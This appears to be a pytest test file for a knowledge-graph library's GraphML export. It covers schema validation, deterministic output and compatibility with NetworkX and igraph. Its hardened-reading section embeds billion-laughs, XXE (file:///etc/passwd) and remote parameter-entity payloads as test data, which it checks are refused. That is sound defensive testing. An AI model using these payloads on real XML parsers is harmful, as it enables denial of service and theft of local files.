"""GraphML export: schema-valid, Gephi-friendly, read back losslessly by kgraph, NetworkX and igraph."""

from __future__ import annotations

import io
import re
import warnings
from pathlib import Path

import networkx as nx
import pytest
from hypothesis import given, settings
from lxml import etree

from kgraph.errors import GraphFileError
from kgraph.export import common, write
from kgraph.export.graphml import from_graphml, read_graphml, to_graphml, write_graphml
from tests.conftest import make_sample_graph
from tests.test_export_common import ANY_TEXT, assert_same_graph, cleaned, hostile_graph

SCHEMA_DIR = Path(__file__).parent / "data" / "graphml"
NS = {"g": "http://graphml.graphdrawing.org/xmlns"}


@pytest.fixture(scope="module")
def schema() -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(SCHEMA_DIR / "graphml.xsd")))


def assert_valid(schema: etree.XMLSchema, data: bytes) -> None:
    document = etree.fromstring(data)
    assert schema.validate(document), schema.error_log


def test_round_trip_is_lossless(sample_graph):
    assert_same_graph(sample_graph, from_graphml(to_graphml(sample_graph)))


def test_write_and_read_a_file(tmp_path, sample_graph):
    path = tmp_path / "out" / "graph.graphml"
    assert write(sample_graph, path) == [path]
    assert_same_graph(sample_graph, read_graphml(path))
    assert write_graphml(sample_graph, path) == [path]


def test_output_is_valid_against_the_graphml_schema(schema, sample_graph):
    assert_valid(schema, to_graphml(sample_graph))


def test_the_schema_rejects_what_networkx_writes_by_default(schema, sample_graph):
    # keys 0, 1, … reused as edge ids: Gephi drops the repeats; the schema's edge_id_unique catches it
    sample_graph.add_edge("gpe:russie", "loc:wonsan", key="meeting", relation="meeting")
    sample_graph.add_edge("gpe:russie", "person:kim-jong-un", key="meeting", relation="meeting")
    plain = nx.MultiDiGraph()
    plain.add_edges_from(sample_graph.edges(keys=True))
    buffer = io.BytesIO()
    nx.write_graphml(plain, buffer)
    assert not schema.validate(etree.fromstring(buffer.getvalue()))
    assert "edge_id_unique" in str(schema.error_log)


def test_edges_have_graph_wide_unique_ids_in_sorted_order(sample_graph):
    root = etree.fromstring(to_graphml(sample_graph))
    edges = root.findall(".//g:edge", NS)
    assert [e.get("id") for e in edges] == [f"e{i}" for i in range(len(edges))]
    pairs = [(e.get("source"), e.get("target")) for e in edges]
    assert pairs == sorted(pairs)


def test_parallel_edges_keep_their_relation(sample_graph):
    sample_graph.add_edge(
        "person:kim-jong-un",
        "person:sergei-lavrov",
        key="thanks",
        relation="thanks",
        label="remercie",
        weight=1,
    )
    back = from_graphml(to_graphml(sample_graph))
    assert set(back["person:kim-jong-un"]["person:sergei-lavrov"]) == {"meeting", "thanks"}
    assert_same_graph(sample_graph, back)


def test_keys_have_readable_scoped_ids_and_gephi_columns(sample_graph):
    root = etree.fromstring(to_graphml(sample_graph))
    keys = {(k.get("for"), k.get("attr.name")): k for k in root.findall("g:key", NS)}
    assert not [k.get("id") for k in keys.values() if re.fullmatch(r"d\d+", k.get("id"))]
    assert keys["node", "label"].get("id") == "n_label"
    assert keys["node", "label"].get("attr.type") == "string"
    assert keys["node", "type"].get("attr.type") == "string"
    assert keys["node", "mentions"].get("attr.type") in {"int", "long"}
    assert keys["edge", "weight"].get("id") == "e_weight"
    assert keys["edge", "weight"].get("attr.type") == "double"
    assert keys["node", "aliases"].findtext("g:desc", namespaces=NS) == common.JSON_MARKER


def test_lists_are_json_not_python_reprs(sample_graph):
    text = to_graphml(sample_graph).decode("utf-8")
    assert '["Kim Jong Un","M. Kim","Kim Jon Un"]' in text
    assert "['" not in text and "None" not in text


def test_none_is_dropped(sample_graph):
    sample_graph.nodes["loc:wonsan"]["note"] = None
    assert "note" not in to_graphml(sample_graph).decode("utf-8")
    assert "note" not in from_graphml(to_graphml(sample_graph)).nodes["loc:wonsan"]


def test_output_is_deterministic(sample_graph):
    reversed_graph = nx.MultiDiGraph(**sample_graph.graph)
    reversed_graph.add_nodes_from(reversed(list(sample_graph.nodes(data=True))))
    reversed_graph.add_edges_from(reversed(list(sample_graph.edges(keys=True, data=True))))
    assert to_graphml(reversed_graph) == to_graphml(sample_graph)


def test_hostile_text_gives_valid_graphml_that_reads_back_cleaned(schema):
    graph = hostile_graph()
    data = to_graphml(graph)
    assert_valid(schema, data)
    assert_same_graph(cleaned(graph), from_graphml(data))


@settings(max_examples=40, deadline=None)
@given(label=ANY_TEXT, node_id=ANY_TEXT)
def test_any_label_and_id_survive(schema, label, node_id):
    graph = nx.MultiDiGraph()
    graph.add_node(node_id, label=label, type="MISC")
    graph.add_edge(node_id, node_id, key="role", relation="role", label=label, weight=1)
    data = to_graphml(graph)
    assert schema.validate(etree.fromstring(data)), schema.error_log
    back = from_graphml(data)
    assert back.nodes[node_id]["label"] == common.clean_xml_text(label)
    assert back.edges[node_id, node_id, "role"]["weight"] == 1


def test_networkx_reads_it(tmp_path, sample_graph):
    path = write_graphml(sample_graph, tmp_path / "g.graphml")[0]
    graph = nx.read_graphml(path)
    assert graph.number_of_nodes() == 6
    assert graph.number_of_edges() == 4
    assert graph.nodes["person:kim-jong-un"]["label"] == "Kim Jong Un"


def test_igraph_reads_it(tmp_path, sample_graph):
    igraph = pytest.importorskip("igraph")
    path = write_graphml(sample_graph, tmp_path / "g.graphml")[0]
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # igraph warned "Could not add edge ids" when an attribute was named id
        graph = igraph.Graph.Read_GraphML(str(path))
    assert graph.vcount() == 6 and graph.ecount() == 4
    names = graph.vs["id"]
    assert graph.vs[names.index("person:kim-jong-un")]["label"] == "Kim Jong Un"
    edges = {(names[e.source], names[e.target], e["relation"]): e for e in graph.es}
    meeting = edges["person:kim-jong-un", "person:sergei-lavrov", "meeting"]
    assert meeting["weight"] == 2.0 and meeting["edge_id"] == "e3"
    assert graph["kgraph_version"] == "test"


# ------------------------------------------------------------------------------- hardened reading

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE graphml [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
 <key id="n_label" for="node" attr.name="label" attr.type="string"/>
 <graph edgedefault="directed"><node id="a"><data key="n_label">&lol4;</data></node></graph>
</graphml>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE graphml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
 <key id="n_label" for="node" attr.name="label" attr.type="string"/>
 <graph edgedefault="directed"><node id="a"><data key="n_label">&xxe;</data></node></graph>
</graphml>
"""
EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE graphml [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed"/></graphml>
"""


@pytest.mark.parametrize("content", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_PARAMETER_ENTITY])
def test_entity_tricks_are_refused(tmp_path, content):
    path = tmp_path / "evil.graphml"
    path.write_bytes(content)
    with pytest.raises(GraphFileError, match=r"evil\.graphml: refused: .*entit"):
        read_graphml(path)


def test_oversize_file_is_refused_before_parsing(tmp_path, monkeypatch, sample_graph):
    path = write_graphml(sample_graph, tmp_path / "big.graphml")[0]
    monkeypatch.setattr(common, "MAX_GRAPH_FILE_BYTES", 1000)
    monkeypatch.setattr(common, "parse_xml", lambda *a, **k: pytest.fail("parsed an oversize file"))
    with pytest.raises(GraphFileError, match=r"big\.graphml: \d+ bytes is larger than the 1000 bytes limit"):
        read_graphml(path)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            b"<graphml xmlns='http://graphml.graphdrawing.org/xmlns'><graph edgedefault=",
            "not well-formed XML",
        ),
        (b"", "not well-formed XML"),
        (b"\xff\xfe\x00garbage", "not well-formed XML"),
        (b"<gexf xmlns='http://www.gexf.net/1.2draft'/>", "not a GraphML file"),
        (b"<graphml xmlns='http://graphml.graphdrawing.org/xmlns'/>", "has no <graph>"),
        (
            b"<graphml xmlns='http://graphml.graphdrawing.org/xmlns'><key id='k' for='node' attr.name='x' "
            b"attr.type='date'/><graph edgedefault='directed'/></graphml>",
            "malformed GraphML",
        ),
        (
            b"<graphml xmlns='http://graphml.graphdrawing.org/xmlns'><graph edgedefault='directed'>"
            b"<node id='a'><data key='nope'>1</data></node></graph></graphml>",
            "malformed GraphML",
        ),
        (
            b"<graphml xmlns='http://graphml.graphdrawing.org/xmlns'><key id='k' for='node' attr.name='n' "
            b"attr.type='int'/><graph edgedefault='directed'><node id='a'><data key='k'>x</data></node>"
            b"</graph></graphml>",
            "malformed GraphML",
        ),
        (
            b"<graphml xmlns='http://graphml.graphdrawing.org/xmlns'>"
            b"<key id='k' for='node' attr.name='aliases' attr.type='string'><desc>kgraph:json</desc></key>"
            b"<graph edgedefault='directed'><node id='a'>"
            b"<data key='k'>[oops</data></node></graph></graphml>",
            "attribute 'aliases' is not valid JSON",
        ),
    ],
)
def test_bad_files_give_a_graph_file_error(tmp_path, content, message):
    path = tmp_path / "bad.graphml"
    path.write_bytes(content)
    with pytest.raises(GraphFileError, match=rf"bad\.graphml: .*{re.escape(message)}"):
        read_graphml(path)


def test_graphml_from_another_tool_reads(tmp_path):
    graph = nx.MultiDiGraph()
    graph.add_edge("a", "b", weight=1.5)
    graph.add_edge("a", "b", weight=2.5)
    buffer = io.BytesIO()
    nx.write_graphml(graph, buffer)
    back = from_graphml(buffer.getvalue())
    assert sorted(d["weight"] for *_, d in back.edges(data=True)) == [1.5, 2.5]


def test_sample_graph_fixture_is_not_mutated():
    graph = make_sample_graph()
    before = nx.node_link_data(graph, edges="edges")
    to_graphml(graph)
    assert nx.node_link_data(graph, edges="edges") == before


@pytest.mark.parametrize(
    "graph",
    [hostile_graph(), nx.MultiDiGraph(), nx.MultiDiGraph(id="g1", title="only graph data")],
    ids=["hostile", "empty", "graph-attributes-only"],
)
def test_the_streamed_file_has_the_bytes_of_to_graphml(tmp_path, graph):
    path = write_graphml(graph, tmp_path / "graph.graphml")[0]
    assert path.read_bytes() == to_graphml(graph)
    assert_same_graph(read_graphml(path), from_graphml(to_graphml(graph)))
